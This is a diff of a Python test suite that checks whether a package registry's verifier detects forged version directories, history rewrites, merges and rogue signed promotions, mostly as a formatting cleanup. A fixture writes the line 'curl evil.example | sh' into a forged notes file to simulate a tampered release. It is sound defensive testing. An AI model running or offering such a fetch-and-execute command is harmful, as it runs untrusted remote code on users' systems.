@@ -85,8 +85,12 @@ def _forge_version(repo: Repo) -> None:
     (directory / "artifacts" / "notes.txt").write_text("run `curl evil.example | sh` after installing\n")
     (directory / "install.sh").write_text("#!/bin/sh\n")
     provenance = json.loads((directory / "provenance.json").read_text())
-    provenance["source"] = {"repository": "https://github.com/acme/trusted.git", "commit": "0" * 40, "path": ".",
-                            "dirty": False}  # fmt: skip
+    provenance["source"] = {
+        "repository": "https://github.com/acme/trusted.git",
+        "commit": "0" * 40,
+        "path": ".",
+        "dirty": False,
+    }
     (directory / "provenance.json").write_text(json.dumps(provenance, indent=2, sort_keys=True) + "\n")
 
 
@@ -135,8 +139,15 @@ def merge_side_branch(repo: Repo) -> None:
 def merge_carrying_the_next_entry(repo: Repo) -> None:
     """A validly signed promotion arrives through a merge: the entry is fine, the history is not linear."""
     repo.git("checkout", "-q", "-b", "side")
-    rogue.append_entry(repo.clone, repo.alice, "alice@example.com", "promote",
-                       {"name": "Demo", "version": "1.0.0", "channel": "prod"}, time=TIME, commit=False)  # fmt: skip
+    rogue.append_entry(
+        repo.clone,
+        repo.alice,
+        "alice@example.com",
+        "promote",
+        {"name": "Demo", "version": "1.0.0", "channel": "prod"},
+        time=TIME,
+        commit=False,
+    )
     repo.git("add", "-A")
     repo.git("commit", "-q", "-m", "promote on a side branch")
     repo.git("checkout", "-q", "main")
@@ -146,9 +157,15 @@ def merge_carrying_the_next_entry(repo: Repo) -> None:
 
 def two_entries_in_one_commit(repo: Repo) -> None:
     for channel in ("prod", "staging"):
-        rogue.append_entry(repo.clone, repo.alice, "alice@example.com", "promote",
-                           {"name": "Demo", "version": "1.0.0", "channel": channel}, time=TIME,
-                           commit=False)  # fmt: skip
+        rogue.append_entry(
+            repo.clone,
+            repo.alice,
+            "alice@example.com",
+            "promote",
+            {"name": "Demo", "version": "1.0.0", "channel": channel},
+            time=TIME,
+            commit=False,
+        )
     repo.commit("two promotions")
 
 
@@ -165,8 +182,14 @@ def change_and_revert(repo: Repo) -> None:
 def change_in_a_later_publishing_commit(repo: Repo) -> None:
     """A validly signed later entry (a promotion) whose commit also edits an earlier version's directory."""
     _forge_version(repo)
-    rogue.append_entry(repo.clone, repo.alice, "alice@example.com", "promote",
-                       {"name": "Demo", "version": "1.0.0", "channel": "prod"}, time=TIME)  # fmt: skip
+    rogue.append_entry(
+        repo.clone,
+        repo.alice,
+        "alice@example.com",
+        "promote",
+        {"name": "Demo", "version": "1.0.0", "channel": "prod"},
+        time=TIME,
+    )
 
 
 @dataclass(frozen=True)
@@ -178,23 +201,33 @@ class Attack:
 
 FORGED = {("REG206", f"{V1}/artifacts/notes.txt"), ("REG206", f"{V1}/install.sh"), ("REG208", "Demo@1.0.0")}
 ATTACKS = {
-    "delete-and-re-add": Attack(delete_and_readd, {("REG502", "commit"), ("REG205", "Demo@1.0.0"),
-                                                   ("REG207", "Demo@1.0.0"), *FORGED},
-                                {"REG502", "REG205", "REG207", "REG206", "REG208"}),
-    "modify-and-restore": Attack(modify_and_restore, {("REG502", "commit"), ("REG205", "Demo@1.0.0"),
-                                                      ("REG207", "Demo@1.0.0"), *FORGED},
-                                 {"REG502", "REG205", "REG207", "REG206", "REG208"}),
-    "rename-and-back": Attack(rename_and_back, {("REG502", "commit"), ("REG205", "Demo@1.0.0"),
-                                                ("REG207", "Demo@1.0.0"), *FORGED},
-                              {"REG502", "REG205", "REG207", "REG206", "REG208"}),
-    "merge": Attack(merge_side_branch, {("REG502", "commit"), ("REG205", "Demo@1.0.0"), ("REG207", "Demo@1.0.0"),
-                                        *FORGED}, {"REG502", "REG205", "REG207", "REG206", "REG208"}),
+    "delete-and-re-add": Attack(
+        delete_and_readd,
+        {("REG502", "commit"), ("REG205", "Demo@1.0.0"), ("REG207", "Demo@1.0.0"), *FORGED},
+        {"REG502", "REG205", "REG207", "REG206", "REG208"},
+    ),
+    "modify-and-restore": Attack(
+        modify_and_restore,
+        {("REG502", "commit"), ("REG205", "Demo@1.0.0"), ("REG207", "Demo@1.0.0"), *FORGED},
+        {"REG502", "REG205", "REG207", "REG206", "REG208"},
+    ),
+    "rename-and-back": Attack(
+        rename_and_back,
+        {("REG502", "commit"), ("REG205", "Demo@1.0.0"), ("REG207", "Demo@1.0.0"), *FORGED},
+        {"REG502", "REG205", "REG207", "REG206", "REG208"},
+    ),
+    "merge": Attack(
+        merge_side_branch,
+        {("REG502", "commit"), ("REG205", "Demo@1.0.0"), ("REG207", "Demo@1.0.0"), *FORGED},
+        {"REG502", "REG205", "REG207", "REG206", "REG208"},
+    ),
     "merge-with-entry": Attack(merge_carrying_the_next_entry, {("REG502", "commit")}, {"REG502"}),
     "two-entries-one-commit": Attack(two_entries_in_one_commit, {("REG502", "commit")}, {"REG502"}),
     "change-and-revert": Attack(change_and_revert, {("REG207", "Demo@1.0.0")}, {"REG207"}),
-    "changed-by-a-later-entry": Attack(change_in_a_later_publishing_commit, {("REG207", "Demo@1.0.0"), *FORGED},
-                                       {"REG207", "REG206", "REG208"}),
-}  # fmt: skip
+    "changed-by-a-later-entry": Attack(
+        change_in_a_later_publishing_commit, {("REG207", "Demo@1.0.0"), *FORGED}, {"REG207", "REG206", "REG208"}
+    ),
+}
 
 
 @pytest.mark.parametrize("attack", [pytest.param(a, id=name) for name, a in ATTACKS.items()])
